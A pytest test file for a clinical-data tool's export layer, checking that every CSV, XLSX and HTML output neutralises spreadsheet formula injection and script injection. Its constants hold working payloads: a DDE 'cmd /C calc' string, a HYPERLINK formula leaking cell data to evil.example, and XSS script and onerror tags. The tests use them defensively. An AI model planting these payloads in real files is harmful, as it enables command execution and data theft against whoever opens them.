"""No CSV or XLSX graftline writes can run as a spreadsheet formula (issue 18, OWASP CSV injection).

Hostile text - a patient identifier, an arm, a study name, an author, a
title - goes through every command that writes a table; every cell of every
CSV written must be inert: no text cell begins with = + - @ tab or CR
unless prefixed with ', while numbers (negative ones included) are left as
they were.
"""

from __future__ import annotations

import csv
import io
import math
import re
from pathlib import Path

import pandas as pd
import pytest

from graftline.export import csv_text, neutralise_cell, neutralise_formulas, write_csv, write_xlsx

HOSTILE_ID = "-2+3+cmd|' /C calc'!A0"
HOSTILE_ARM = '=HYPERLINK("http://evil.example/?leak="&A1,"open")'
HTML_ARM = "<script>alert(1)</script><img src=x onerror=alert(2)>"
HOSTILE_STUDY = "@SUM(1+1)*cmd|' /C calc'!A0"
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
PLAIN_NUMBER = re.compile(r"[+-]?(?:\d+\.?\d*|\.\d+)(?:[eE][+-]?\d+)?")


def formula_cells(text: str) -> list[str]:
    """Cells of a CSV text a spreadsheet would take for a formula."""
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row
            if cell.startswith(TRIGGERS) and not PLAIN_NUMBER.fullmatch(cell)]


def assert_inert(text: str, *hostile: str) -> None:
    assert formula_cells(text) == []
    for value in hostile:
        assert "'" + value in text or "'" + value.replace('"', '""') in text, f"{value!r} not written"


# --- the writer itself ---------------------------------------------------------


@pytest.mark.parametrize("value", ["=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", "\r=1+1", HOSTILE_ARM, HOSTILE_ID])
def test_text_that_could_run_is_prefixed(value):
    assert neutralise_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["MST", "a=b", " =1", "-5", "+1.5e-3", "-.5", "'=already", "", 3, -2.5, None])
def test_other_cells_are_unchanged(value):
    assert neutralise_cell(value) == value


def test_numeric_columns_untouched_text_columns_neutralised():
    frame = pd.DataFrame({
        "patient_id": [HOSTILE_ID, "P2", None],
        "delta": [-1.5, 2.0, math.nan],
        "n": pd.array([-3, 4, None], dtype="Int64"),
        "arm": pd.Categorical([HOSTILE_ARM, "chemo", "chemo"]),
        "=header": ["x", "y", "z"],
    })
    safe = neutralise_formulas(frame)
    assert safe["patient_id"].tolist()[:2] == ["'" + HOSTILE_ID, "P2"]
    assert safe["patient_id"].isna().tolist() == [False, False, True]
    pd.testing.assert_series_equal(safe["delta"], frame["delta"])
    pd.testing.assert_series_equal(safe["n"], frame["n"])
    assert safe["arm"].tolist() == ["'" + HOSTILE_ARM, "chemo", "chemo"]
    assert list(safe.columns)[-1] == "'=header"
    assert frame["patient_id"].iloc[0] == HOSTILE_ID  # the caller's frame is not changed
    text = csv_text(frame)
    assert_inert(text, HOSTILE_ID, HOSTILE_ARM)
    assert "-1.5" in text and ",-3," in text


def test_an_ordinary_table_is_written_byte_for_byte_as_pandas_does(tmp_path):
    frame = pd.DataFrame({"patient_id": ["P1", "P2"], "day": [11, -3], "value": [0.5, math.nan]})
    write_csv(frame, tmp_path / "a.csv")
    assert (tmp_path / "a.csv").read_bytes() == frame.to_csv(index=False, lineterminator="\n").encode()


def test_a_failed_write_leaves_the_old_file(tmp_path):
    target = tmp_path / "t.csv"
    target.write_text("old\n")

    class Boom:
        columns = ["a"]

        def copy(self, deep=False):
            raise RuntimeError("disk full")

    with pytest.raises(RuntimeError):
        write_csv(Boom(), target)
    assert target.read_text() == "old\n"
    assert [p.name for p in tmp_path.iterdir()] == ["t.csv"]


def test_xlsx_text_cells_are_strings_never_formulas(tmp_path):
    import openpyxl

    frame = pd.DataFrame({"patient_id": [HOSTILE_ID, "P2"], "arm": [HOSTILE_ARM, "chemo"], "day": [-1, 12]})
    write_xlsx(frame, tmp_path / "t.xlsx")
    sheet = openpyxl.load_workbook(tmp_path / "t.xlsx").active
    cells = {c.coordinate: c for row in sheet.iter_rows() for c in row}
    assert cells["A2"].value == HOSTILE_ID and cells["A2"].data_type == "s" and cells["A2"].quotePrefix
    assert cells["B2"].value == HOSTILE_ARM and cells["B2"].data_type == "s" and cells["B2"].quotePrefix
    assert cells["B3"].value == "chemo" and not cells["B3"].quotePrefix
    assert cells["C2"].value == -1 and cells["C2"].data_type == "n"
    assert all(c.data_type != "f" for c in cells.values())


# --- every command that writes a table -----------------------------------------


def _hostile_cohort(directory: Path) -> None:
    """The example cohort with patient EX01 renamed and EX02's arm replaced by formulas."""
    for path in directory.glob("*.csv"):
        with path.open(newline="") as handle:
            rows = list(csv.reader(handle))
        rows = [[HOSTILE_ID if cell == "EX01" else cell for cell in row] for row in rows]
        if path.stem == "treatments":
            arm = rows[0].index("arm")
            for row in rows[1:]:
                if row[0] == "EX02":
                    row[arm] = HOSTILE_ARM
        with path.open("w", newline="") as handle:
            csv.writer(handle, lineterminator="\n").writerows(rows)


def test_cohort_commands_write_inert_tables(graftline, tmp_path, example_cohort):
    _hostile_cohort(example_cohort)
    db = tmp_path / "c.duckdb"
    assert graftline("ingest", example_cohort, "--db", db).code == 0
    endpoints = tmp_path / "endpoints.csv"
    run = graftline("endpoints", "--db", db, "--out", endpoints)
    assert run.code == 0, run.output
    assert_inert(endpoints.read_text(), HOSTILE_ID, HOSTILE_ARM)
    run = graftline("cuminc", endpoints, "--endpoint", "neutrophil_engraftment", "--group", "arm",
                    "--out", tmp_path / "cuminc")
    assert run.code == 0, run.output
    for table in (tmp_path / "cuminc").glob("*.csv"):
        assert formula_cells(table.read_text()) == [], table.name
    assert_inert((tmp_path / "cuminc" / "cuminc_neutrophil_engraftment_at.csv").read_text(), HOSTILE_ARM)

    run = graftline("km", endpoints, "--time", "os_day", "--event", "os_status", "--group", "arm")
    assert run.code == 0, run.output
    assert_inert(run.stdout, HOSTILE_ARM)


def test_the_validation_report_as_csv_is_inert(graftline, tmp_path, example_cohort):
    """validate --out problems.csv quotes the offending values: a hostile one is written inert."""
    path = example_cohort / "labs.csv"
    rows = list(csv.reader(path.open(newline="")))
    rows[1][rows[0].index("value")] = HOSTILE_ARM
    with path.open("w", newline="") as handle:
        csv.writer(handle, lineterminator="\n").writerows(rows)
    run = graftline("validate", example_cohort, "--out", tmp_path / "problems.csv")
    assert run.code == 1, run.output
    assert_inert((tmp_path / "problems.csv").read_text(), HOSTILE_ARM)


def test_report_tables_are_inert(graftline, tmp_path):
    # A small endpoint table keeps the report quick; its tables carry arms and, with --include-ids, ids.
    endpoints = pd.DataFrame({
        "patient_id": [HOSTILE_ID, "P2", "P3", "P4", "P5", "P6"],
        "arm": [HOSTILE_ARM, HOSTILE_ARM, HOSTILE_ARM, HTML_ARM, HTML_ARM, HTML_ARM],
        "os_day": [100, 200, 300, 150, 250, 350], "os_status": [1, 0, 1, 1, 1, 0],
    })
    endpoints.to_csv(tmp_path / "endpoints.csv", index=False)
    run = graftline("report", "--endpoints", tmp_path / "endpoints.csv", "--out", tmp_path / "report",
                    "--include-ids")
    assert run.code == 0, run.output
    tables = sorted((tmp_path / "report" / "tables").glob("*.csv"))
    assert len(tables) > 3
    for table in tables:
        assert formula_cells(table.read_text()) == [], table.name
    assert_inert((tmp_path / "report" / "tables" / "patient_endpoints.csv").read_text(), HOSTILE_ID, HOSTILE_ARM)
    assert_inert((tmp_path / "report" / "tables" / "medians.csv").read_text(), HOSTILE_ARM)
    # The page shows the arm as text: no element or script from the data.
    page = (tmp_path / "report" / "index.html").read_text()
    assert "&lt;script&gt;alert(1)" in page and "<script" not in page.lower()
    assert re.findall(r"<img(?! src=\"data:image/)", page, flags=re.IGNORECASE) == []  # only the figures


def test_adjusted_comparisons_print_inert_csv(graftline, tmp_path):
    """balance and adjusted-curves print arm and covariate names from the user's table: inert."""
    import numpy as np

    rng = np.random.default_rng(18)
    n = 40
    treated = np.arange(n) % 2 == 0
    age = rng.normal(50, 10, n).round()
    frame = pd.DataFrame({"arm": np.where(treated, HOSTILE_ARM, "control"), "-age": age,
                          "os_day": rng.integers(20, 400, n), "os_status": rng.integers(0, 2, n)})
    frame.to_csv(tmp_path / "endpoints.csv", index=False)
    run = graftline("balance", tmp_path / "endpoints.csv", "--treatment", "arm", "--adjust", "-age")
    assert run.code == 0, run.output
    assert_inert(run.stdout, "-age")
    run = graftline("adjusted-curves", tmp_path / "endpoints.csv", "--endpoint", "os", "--treatment", "arm",
                    "--adjust", "-age", "--times", "100,200")
    assert run.code == 0, run.output
    assert_inert(run.stdout, HOSTILE_ARM)


def test_endpoints_as_xlsx_hold_no_formula(graftline, tmp_path, monkeypatch):
    """``endpoints --out e.xlsx``: the format follows the suffix, no cell is a formula, hostile text is
    kept as text, and the definitions are kept beside the workbook as for CSV. (The derivation is
    replaced by a one-row table: test_cohort_commands_write_inert_tables derives a real one.)"""
    import duckdb
    import openpyxl

    from graftline import endpoints as endpoints_module
    from graftline.endpoints import read_endpoint_definitions

    frame = pd.DataFrame({"patient_id": [HOSTILE_ID], "arm": [HOSTILE_ARM], "os_day": [12]})
    monkeypatch.setattr(endpoints_module, "endpoint_frame", lambda con, definitions: frame)
    duckdb.connect(str(tmp_path / "store.duckdb")).close()
    run = graftline("endpoints", "--db", tmp_path / "store.duckdb", "--out", tmp_path / "e.xlsx")
    assert run.code == 0, run.output
    assert sorted(p.name for p in tmp_path.iterdir()) == ["e.xlsx", "e.xlsx.definitions.json", "store.duckdb"]
    cells = [c for row in openpyxl.load_workbook(tmp_path / "e.xlsx").active.iter_rows() for c in row]
    assert [c.value for c in cells] == ["patient_id", "arm", "os_day", HOSTILE_ID, HOSTILE_ARM, 12]
    assert all(c.data_type != "f" for c in cells)
    assert read_endpoint_definitions(tmp_path / "e.xlsx").definitions.preset_name == "harmonized2024"


def test_meta_writes_inert_study_tables(graftline, tmp_path):
    sheet = pd.read_csv(Path(__file__).resolve().parents[2] / "examples" / "meta" / "msc_engraftment_illustrative.csv",
                        dtype=str, keep_default_na=False)
    sheet.loc[0, "study"] = HOSTILE_STUDY
    sheet.loc[:, "msc_source"] = sheet["msc_source"].where(sheet.index != 1, HOSTILE_ARM)
    sheet.to_csv(tmp_path / "sheet.csv", index=False)
    run = graftline("meta", tmp_path / "sheet.csv", "--outcome", "neutrophil_engraftment_days", "--arm", "msc",
                    "--by", "msc_source", "--out", tmp_path / "meta")
    assert run.code == 0, run.output
    assert_inert((tmp_path / "meta" / "studies_neutrophil_engraftment_days.csv").read_text(),
                 HOSTILE_STUDY, HOSTILE_ARM)
    assert_inert((tmp_path / "meta" / "summary_neutrophil_engraftment_days.csv").read_text(), HOSTILE_ARM)


RIS = f"""TY  - JOUR
AU  - {HOSTILE_STUDY}
TI  - {HOSTILE_ARM}
PY  - 2020
JO  - +Journal of Formulas
ER  - """ + "\n"


def test_review_exports_are_inert(graftline, tmp_path):
    project = tmp_path / "review.duckdb"
    (tmp_path / "hostile.ris").write_text(RIS)
    assert graftline("review", "init", project).code == 0
    run = graftline("review", "import", tmp_path / "hostile.ris", "--project", project, "--source", "embase")
    assert run.code == 0, run.output
    run = graftline("review", "records", "--project", project, "--csv")
    assert run.code == 0, run.output
    assert_inert(run.stdout, HOSTILE_ARM)
    for stage in ("title_abstract", "full_text"):
        run = graftline("review", "screen", "1", "--project", project, "--stage", stage,
                        "--decision", "include", "--reviewer", "anna")
        assert run.code == 0, run.output
    run = graftline("review", "extraction-sheet", "--project", project, "--out", tmp_path / "sheet.csv")
    assert run.code == 0, run.output
    assert_inert((tmp_path / "sheet.csv").read_text(), HOSTILE_ARM)


def test_no_module_writes_csv_or_xlsx_around_the_safe_writer():
    """One writer everywhere: only graftline/export.py may call to_csv/to_excel or csv.writer."""
    import re

    source = Path(__file__).resolve().parents[2] / "src" / "graftline"
    pattern = re.compile(r"\.to_csv\(|\.to_excel\(|csv\.writer\(|csv\.DictWriter\(|openpyxl\.Workbook\("
                         r"|execute\(f?[\"']COPY\b")
    # The one exception: the canonical tables a REDCap export is converted to, in a private
    # temporary folder that only ingest reads (values must stay exactly as decoded; no person opens it).
    internal = {"cohort/redcap/ingest.py": 1}
    offenders = [f"{path.relative_to(source)}:{number}: {line.strip()}"
                 for path in sorted(source.rglob("*.py")) if path.name != "export.py"
                 for number, line in enumerate(path.read_text().splitlines(), start=1)
                 if pattern.search(line) and not line.lstrip().startswith("#")]
    for name, allowed in internal.items():
        found = [o for o in offenders if o.startswith(name + ":")]
        assert len(found) == allowed, found
        offenders = [o for o in offenders if o not in found]
    assert offenders == [], "write tables with graftline.export (write_csv, print_csv, write_xlsx):\n" + "\n".join(offenders)
